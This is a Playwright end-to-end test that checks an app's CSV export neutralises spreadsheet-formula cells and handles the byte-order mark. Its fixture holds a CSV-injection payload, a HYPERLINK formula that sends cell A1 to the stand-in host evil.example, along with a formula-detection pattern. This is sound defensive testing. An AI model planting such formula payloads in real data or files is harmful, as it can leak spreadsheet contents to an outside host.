/// <reference lib="dom" />
// A UI export of hostile data, end to end: a service whose event name and viewers' OS look like
// spreadsheet formulas -> poller -> SQLite -> browser host -> Chromium. The CSV the browser
// downloads has those cells neutralised (a leading '), starts with a byte-order mark only when
// asked, and is assembled in the export worker, which the browser host serves under its CSP.
import { readFileSync } from 'node:fs'
import { expect, test, type Download, type Page } from '@playwright/test'
import { startSimulator, type RunningSimulator } from '../../src/main/core/simulator/server'
import { parseCsv } from '../support/parse-csv'
import type { BrowserHost } from './browser-host'
import { watchProblems } from './support/problems'
import { openFirstLiveSession } from './support/session'
import { startBrowserHostFor } from './support/simulator-host'

const EVENT_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Town Hall")'
const OS = '@SUM(1)'
const FORMULA_LEAD = /^[=+\-@\t\r]/

let sim: RunningSimulator
let host: BrowserHost

test.beforeAll(async () => {
  sim = await startSimulator({ liveSessions: 1, endedSessions: 0, viewersPerSession: 40, churnSessions: false, randomIncidents: false })
  // The service says so: every record from now on carries the hostile text.
  for (const session of sim.world.sessions) {
    session.eventName = EVENT_NAME
    for (const viewer of session.viewers) viewer.os = OS
  }
  host = await startBrowserHostFor(sim)
})

test.afterAll(async () => {
  await host?.stop()
  await sim?.close()
})

async function exportFile(page: Page, kind: string, format: 'csv' | 'json', bom: boolean): Promise<{ bytes: Buffer; download: Download }> {
  const panel = page.getByTestId('export-panel')
  await panel.getByRole('combobox').nth(0).selectOption(kind)
  await panel.getByRole('combobox').nth(1).selectOption(format)
  const checkbox = panel.getByRole('checkbox', { name: 'Add a byte-order mark (for Excel)' })
  if (format === 'csv') await checkbox.setChecked(bom)
  else await expect(checkbox).toHaveCount(0) // JSON never gets one
  const download = page.waitForEvent('download')
  await panel.getByRole('button', { name: /^Export / }).click()
  const file = await (await download).path()
  await expect(panel.getByRole('status')).toContainText('Saved')
  return { bytes: readFileSync(file), download: await download }
}

test('a CSV export of formula-looking names is neutralised, with a byte-order mark when asked', async ({ page }) => {
  test.setTimeout(90_000)
  const problems = watchProblems(page)
  const workers: string[] = []
  page.on('worker', (worker) => workers.push(worker.url()))
  await page.goto(host.url)
  await openFirstLiveSession(page)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(EVENT_NAME)
  await expect(page.getByTestId('viewer-row').first().locator('.id')).toBeVisible({ timeout: 40_000 })

  // Viewers, with the byte-order mark: EF BB BF, then the header.
  const viewers = await exportFile(page, 'viewers', 'csv', true)
  expect([...viewers.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [header, ...rows] = parseCsv(viewers.bytes.subarray(3).toString('utf8'))
  expect(header![0]).toBe('viewerId')
  const os = header!.indexOf('os')
  expect(rows.length).toBeGreaterThan(0)
  expect(rows.filter((r) => r[os] === `'${OS}`).length).toBeGreaterThan(0)
  for (const row of [header!, ...rows]) for (const cell of row) expect(cell).not.toMatch(FORMULA_LEAD)
  await page.getByTestId('export-panel').screenshot({ path: 'test-results/export-safety.png' })

  // It was assembled in the export worker, served by the browser host.
  await expect(page.getByTestId('export-panel')).toHaveAttribute('data-assembled-in', 'worker')
  expect(workers.some((url) => url.startsWith(host.origin) && /assemble/.test(url))).toBe(true)

  // The session, without the mark: the event name neutralised, the numbers as they are.
  const session = await exportFile(page, 'session', 'csv', false)
  expect(session.bytes[0]).not.toBe(0xef) // no byte-order mark
  const [sessionHeader, sessionRow] = parseCsv(session.bytes.toString('utf8'))
  expect(sessionRow![sessionHeader!.indexOf('eventName')]).toBe(`'${EVENT_NAME}`)
  expect(sessionRow![sessionHeader!.indexOf('viewersCount')]).toMatch(/^\d+$/)

  // JSON keeps the text as received, and never starts with a byte-order mark.
  const json = await exportFile(page, 'session', 'json', true)
  expect(json.bytes[0]).toBe('['.charCodeAt(0))
  expect((JSON.parse(json.bytes.toString('utf8')) as { eventName: string }[])[0]!.eventName).toBe(EVENT_NAME)

  expect(problems).toEqual([])
})
